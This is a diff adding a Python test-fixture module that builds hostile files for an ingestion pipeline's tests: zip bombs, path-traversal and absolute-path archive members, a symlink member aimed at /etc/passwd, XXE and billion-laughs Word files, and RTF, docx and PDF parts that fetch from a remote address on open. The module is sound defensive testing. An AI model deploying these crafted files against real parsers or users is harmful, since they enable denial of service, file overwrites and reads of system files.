@@ -1,0 +1,185 @@
+"""Hostile archives, office documents, PDF and RTF: names and bytes."""
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Iterator
+
+from tests.hostile.texts import LAUGHS, PAGE, WORDS, XXE
+from tests.ingest.making import mail, open_document, paragraph, pdf, word, zipped
+
+ZEROS = b"\0" * 300_000_000
+
+
+def hostile_archives() -> Iterator[tuple[str, bytes]]:
+    """Yield ZIP archives."""
+    yield "bomb.zip", _packed({"a.txt": ZEROS})
+    yield "bomb-many.zip", _packed({f"{n}.txt": b"x" * 9_000_000 for n in range(12)})
+    yield "nested.zip", _packed({"in.zip": _packed({"in.zip": _packed({"a.txt": b"x" * 99})})})
+    yield "traversal.zip", zipped({"../../../tmp/owned.txt": WORDS, "good.txt": WORDS})
+    yield "absolute.zip", zipped({"/etc/owned.txt": WORDS, "C:\\owned.txt": WORDS})
+    yield (
+        "bidi.zip",
+        zipped({"a\u202etxt.exe.txt": WORDS, "n\nl.txt": WORDS, "x" * 5000 + ".txt": WORDS}),
+    )
+    yield "link.zip", _link()
+    yield "many.zip", zipped({f"{n}.txt": "x" for n in range(9000)})
+    yield "sham-encrypted.zip", _patched(zipped({"a.txt": WORDS}), 6, b"\x01\x00", 8)
+    yield "wrong-sum.zip", zipped({"a.txt": WORDS}).replace(b"towns", b"downs")
+    yield "lying-size.zip", _lying()
+    yield "twice.zip", _twice()
+    yield "nothing.zip", zipped({})
+    yield "odd-method.zip", _patched(zipped({"a.txt": WORDS}), 8, b"\x63\x00", 10)
+    yield "text.zip", WORDS.encode()
+
+
+def hostile_office() -> Iterator[tuple[str, bytes]]:
+    """Yield Word and OpenDocument files, and RTF."""
+    body = paragraph(WORDS)
+    yield "bomb.docx", _packed({"word/document.xml": b"<a>" + ZEROS[:250_000_000] + b"</a>"})
+    yield "big.docx", word(paragraph(WORDS) * 60_000)
+    yield "laughs.docx", word(paragraph("&e9;"), head=LAUGHS)
+    yield "xxe.docx", word(paragraph("&x;"), head=XXE)
+    yield "deep.docx", word("<w:p>" * 3000 + "</w:p>" * 3000)
+    yield "deep-200.docx", word("<w:sdt>" * 200 + body + "</w:sdt>" * 200)
+    yield "no-document.docx", zipped({"x.xml": "x"})
+    yield "encrypted.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)
+    yield (
+        "template.docx",
+        word(
+            body, extra={"word/_rels/settings.xml.rels": '<r Target="http://198.51.100.7/x.dotm"/>'}
+        ),
+    )
+    yield "page.docx", PAGE.encode()
+    yield "laughs.odt", zipped({"content.xml": LAUGHS + "<x>&e9;</x>"})
+    yield (
+        "encrypted.odt",
+        open_document("<text:p>x</text:p>", extra={"META-INF/manifest.xml": "<encryption-data/>"}),
+    )
+    yield "deep.odt", open_document("<text:span>" * 5000 + "</text:span>" * 5000)
+    yield "bomb.odt", _packed({"content.xml": ZEROS[:150_000_000]})
+    yield "braces.rtf", b"{\\rtf1 " + b"{" * 1_000_000
+    yield "bin.rtf", b"{\\rtf1 \\bin999999999 " + b"x" * 5000 + b"}"
+    yield "unicode.rtf", b"{\\rtf1 " + b"\\u-9999?\\u55296?\\u99999999?" * 30_000 + b"}"
+    yield "object.rtf", b"{\\rtf1{\\object\\objautlink{\\*\\objdata 0105}}{\\field{\\*\\fldinst INCLUDEPICTURE http://198.51.100.7/x}}" + WORDS.encode() + b"}"  # fmt: skip
+    yield "hex.rtf", b"{\\rtf1 " + b"\\'e9" * 1_000_000 + b"}"
+    yield "page.rtf", b"{\\rtf1\\ansicpg99999 " + WORDS.encode() + b"}"
+
+
+def hostile_pdf() -> Iterator[tuple[str, bytes]]:
+    """Yield PDF documents."""
+    good = pdf([[WORDS.strip()] * 30] * 3)
+    yield "loop.pdf", _pdf("<< /Type /Pages /Kids [2 0 R] /Count 1 >>")
+    yield "count.pdf", _pdf("<< /Type /Pages /Kids [] /Count 999999999 >>")
+    yield "self.pdf", good.replace(b"/Parent 2 0 R", b"/Parent 4 0 R")
+    yield "pages-5000.pdf", pdf([["x"]] * 5000)
+    yield "stream-bomb.pdf", _stream(ZEROS[:200_000_000])
+    yield "operators.pdf", _stream(b"q " * 3_000_000)
+    yield "strings.pdf", _stream(b"BT /F1 9 Tf " + b"(x) Tj " * 500_000 + b"ET")
+    yield "arrays.pdf", _stream(b"BT " + b"[" * 200_000 + b" TJ ET")
+    yield "form-loop.pdf", _form_loop()
+    yield "encrypted.pdf", _encrypted(good)
+    yield "pictures.pdf", pdf([[]])
+    yield (
+        "action.pdf",
+        good.replace(
+            b"/Type /Catalog",
+            b"/Type /Catalog /OpenAction << /S /URI /URI (http://198.51.100.7/) >>",
+        ),
+    )
+    yield "header-only.pdf", b"%PDF-1.7\n"
+    yield "trailer-loop.pdf", good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
+    yield "deep-object.pdf", _pdf("[" * 50_000)
+
+
+def samples() -> Iterator[tuple[str, bytes]]:
+    """Yield one sound file of each kind, to be cut off at each tenth."""
+    yield ".docx", word(paragraph(WORDS) * 20)
+    yield ".odt", open_document(f"<text:p>{WORDS}</text:p>" * 20)
+    yield ".pdf", pdf([[WORDS.strip()] * 20] * 2)
+    yield ".rtf", b"{\\rtf1\\ansi " + WORDS.encode() * 20 + b"}"
+    yield ".html", PAGE.encode()
+    yield ".eml", mail(WORDS * 5, PAGE, Subject="x", From="a@example.org")
+    yield ".zip", zipped({"a.txt": WORDS * 9, "b.html": PAGE})
+    yield (
+        ".rss",
+        f"<rss><channel><item><title>x</title><description>{WORDS * 9}</description></item></channel></rss>".encode(),
+    )
+
+
+def _packed(members: dict[str, bytes]) -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return target.getvalue()
+
+
+def _link() -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        member = zipfile.ZipInfo("passwords.txt")
+        member.external_attr = 0o120777 << 16
+        archive.writestr(member, "/etc/passwd")
+    return target.getvalue()
+
+
+def _twice() -> bytes:
+    import warnings
+
+    target = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(target, "w") as archive:
+        warnings.simplefilter("ignore")
+        for n in range(3):
+            archive.writestr("a.txt", f"{n} {WORDS}")
+    return target.getvalue()
+
+
+def _lying() -> bytes:
+    """An archive whose directory declares ten bytes of a member of 50 MB."""
+    data = bytearray(_packed({"a.txt": ZEROS[:50_000_000]}))
+    place = data.rindex(b"PK\x01\x02")
+    data[place + 24 : place + 28] = struct.pack("<I", 10)
+    return bytes(data)
+
+
+def _patched(data: bytes, local: int, value: bytes, central: int) -> bytes:
+    out = bytearray(data)
+    out[local : local + 2] = value
+    place = out.rindex(b"PK\x01\x02")
+    out[place + central : place + central + 2] = value
+    return bytes(out)
+
+
+def _pdf(pages: str) -> bytes:
+    return f"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n{pages}\nendobj\ntrailer\n<< /Size 3 /Root 1 0 R >>\n%%EOF".encode()  # fmt: skip
+
+
+def _stream(content: bytes) -> bytes:
+    packed = zlib.compress(content)
+    head = (
+        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
+        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << >> >>\nendobj\n"
+        f"4 0 obj\n<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n"
+    )
+    return (
+        head.encode() + packed + b"\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF"
+    )
+
+
+def _form_loop() -> bytes:
+    form = b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /A 5 0 R >> >> >>\nendobj\n"
+    loop = b"5 0 obj\n<< /Type /XObject /Subtype /Form /Length 5 /Resources << /XObject << /A 5 0 R >> >> >>\nstream\n/A Do\nendstream\nendobj\n"
+    plain = b"4 0 obj\n<< /Length 5 >>\nstream\n/A Do\nendstream\nendobj\n"
+    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" + form + plain + loop + b"trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF"  # fmt: skip
+
+
+def _encrypted(data: bytes) -> bytes:
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
+    writer.encrypt("secret", algorithm="RC4-128")
+    target = io.BytesIO()
+    writer.write(target)
+    return target.getvalue()
